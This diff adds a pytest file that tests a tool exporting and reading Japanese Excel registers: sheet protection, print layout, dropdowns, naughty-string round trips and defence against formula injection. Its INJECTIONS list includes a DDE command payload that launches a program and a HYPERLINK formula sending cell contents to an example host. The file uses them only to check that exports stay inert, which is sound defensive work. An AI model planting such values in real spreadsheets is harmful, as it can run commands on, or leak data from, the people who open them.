@@ -1,0 +1,155 @@
+import io
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+from openpyxl import load_workbook
+from openpyxl.worksheet.worksheet import Worksheet
+
+from evidence.datasets import Dataset, catalogue
+from registers.cells import Unreadable, parse
+from registers.forms import form
+from registers.reading import read
+from registers.sheets import export, template
+from tests.registers.samples import BORDER, REGISTERS, TOKYO, VENDORS, field, sample
+
+INJECTIONS = {
+    "equals": "=1+1",
+    "plus": "+1+1",
+    "minus": "-2+3",
+    "at": "@SUM(A1:A9)",
+    "tab": "\t=1+1",
+    "full width equals": "＝1+1",
+    "command": "=cmd|'/C calc'!A0",
+    "link": '=HYPERLINK("http://example.com?x="&A1,"here")',
+    "quote": "'=1+1",
+    "an error": "#N/A",
+    "an escape of the format": "_x003D_1+1",
+    "markup": "<f>1+1</f>&amp;<![CDATA[",
+}
+
+
+def opened(content: bytes, title: str) -> Worksheet:
+    sheet = load_workbook(io.BytesIO(content))[title]
+    assert isinstance(sheet, Worksheet)
+    return sheet
+
+
+def named(name: str) -> dict[str, Any]:
+    return {**sample(VENDORS), "name": name}
+
+
+def naughty_texts(shared: Path) -> list[str]:
+    texts: list[str] = json.loads((shared / "data" / "blns" / "blns.json").read_text("utf-8"))
+    return texts
+
+
+def held(text: str) -> str | None:
+    """What a register holds of a text; None when it refuses it or holds nothing."""
+    try:
+        value = parse(field("vendors", "name"), text, TOKYO, BORDER.person)
+    except Unreadable:
+        return None
+    assert isinstance(value, str)
+    return value
+
+
+@pytest.mark.parametrize("dataset", REGISTERS, ids=lambda dataset: dataset.name)
+def test_a_template_is_read_as_an_empty_register(dataset: Dataset) -> None:
+    reading = read(form(dataset), template(dataset), "t.xlsx", BORDER)
+    assert (reading.sheet, reading.lines, reading.problems) == (dataset.title_ja, (), ())
+
+
+@pytest.mark.parametrize("dataset", REGISTERS, ids=lambda dataset: dataset.name)
+def test_a_full_row_of_any_register_survives_its_own_export(dataset: Dataset) -> None:
+    row = sample(dataset)
+    [line] = read(form(dataset), export(dataset, [row]), "e.xlsx", BORDER).lines
+    assert line.values == row
+
+
+@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
+def test_what_looks_like_a_formula_is_inert_text(text: str) -> None:
+    cell = opened(export(VENDORS, [named(text)]), "委託先")["D3"]
+    assert (cell.data_type, cell.number_format) == ("s", "@")
+
+
+@pytest.mark.parametrize("text", INJECTIONS.values(), ids=INJECTIONS)
+def test_what_looks_like_a_formula_is_read_back_as_it_was(text: str) -> None:
+    [line] = read(form(VENDORS), export(VENDORS, [named(text)]), "e.xlsx", BORDER).lines
+    assert line.values["name"] == text.strip()
+
+
+def test_no_workbook_of_ours_holds_a_formula() -> None:
+    book = load_workbook(io.BytesIO(export(VENDORS, [named(text) for text in INJECTIONS.values()])))
+    kinds = {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row}
+    assert "f" not in kinds
+
+
+def test_naughty_texts_survive_their_own_export(shared: Path) -> None:
+    texts = [text for text in map(held, naughty_texts(shared)) if text is not None]
+    rows = [{**named(text), "vendor_id": f"V-{number}"} for number, text in enumerate(texts)]
+    reading = read(form(VENDORS), export(VENDORS, rows), "e.xlsx", BORDER)
+    assert [line.values["name"] for line in reading.lines] == texts
+    assert len(texts) > 450
+
+
+def test_naughty_texts_are_refused_only_for_control_characters_or_for_being_blank(shared: Path) -> None:
+    refused = [text for text in naughty_texts(shared) if held_or_blank(text) is None]
+    assert len(refused) == 6
+    assert all(any(not char.isprintable() for char in text) for text in refused)
+
+
+def held_or_blank(text: str) -> str | None:
+    return "" if not text.strip() else held(text)
+
+
+def test_the_header_is_protected_and_what_people_fill_in_is_not() -> None:
+    sheet = opened(export(VENDORS, [named("みどり印刷")]), "委託先")
+    assert sheet.protection.sheet
+    assert sheet["A1"].protection.locked
+    assert not sheet["A3"].protection.locked
+    assert not sheet.column_dimensions["A"].protection.locked
+
+
+def test_headers_are_japanese_and_marked_where_they_must_be_filled_in() -> None:
+    sheet = opened(template(VENDORS), "委託先")
+    assert [sheet.cell(1, column).value for column in (1, 3, 4)] == ["会社 ●", "委託先ID ●", "法人番号"]
+
+
+def test_the_english_names_stand_in_a_hidden_second_row() -> None:
+    sheet = opened(template(VENDORS), "委託先")
+    assert sheet.row_dimensions[2].hidden
+    assert [cell.value for cell in sheet[2]] == [one.name for one in form(VENDORS).fields]
+
+
+def test_the_sheet_prints_on_a4_landscape_with_its_header_on_every_page() -> None:
+    sheet = opened(template(VENDORS), "委託先")
+    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
+    assert sheet.print_title_rows == "$1:$1"
+    assert sheet.freeze_panes == "D3"
+
+
+def test_every_header_explains_itself() -> None:
+    sheet = opened(template(VENDORS), "委託先")
+    assert all(cell.comment is not None and cell.comment.text for cell in sheet[1])
+
+
+def test_closed_lists_are_offered_to_choose_from() -> None:
+    book = load_workbook(io.BytesIO(template(VENDORS)))
+    offers = {
+        str(offer.sqref).split(":")[0]: offer.formula1 for offer in book["委託先"].data_validations.dataValidation
+    }
+    assert offers["F3"] == "'選択肢'!$F$1:$F$3"
+    assert [book["選択肢"].cell(row, 6).value for row in (1, 2, 3)] == ["T1(重要)", "T2(標準)", "T3(軽微)"]
+    assert book["選択肢"].sheet_state == "hidden"
+
+
+def test_empty_cells_of_text_columns_are_text_before_anyone_types() -> None:
+    sheet = opened(template(VENDORS), "委託先")
+    assert sheet.column_dimensions["C"].number_format == "@"
+
+
+def test_a_wide_register_prints_on_several_pages_that_stay_readable() -> None:
+    sheet = opened(template(catalogue()["book_entries"]), "個人情報管理台帳")
+    assert 4 < int(sheet.page_setup.fitToWidth or 0) < 9
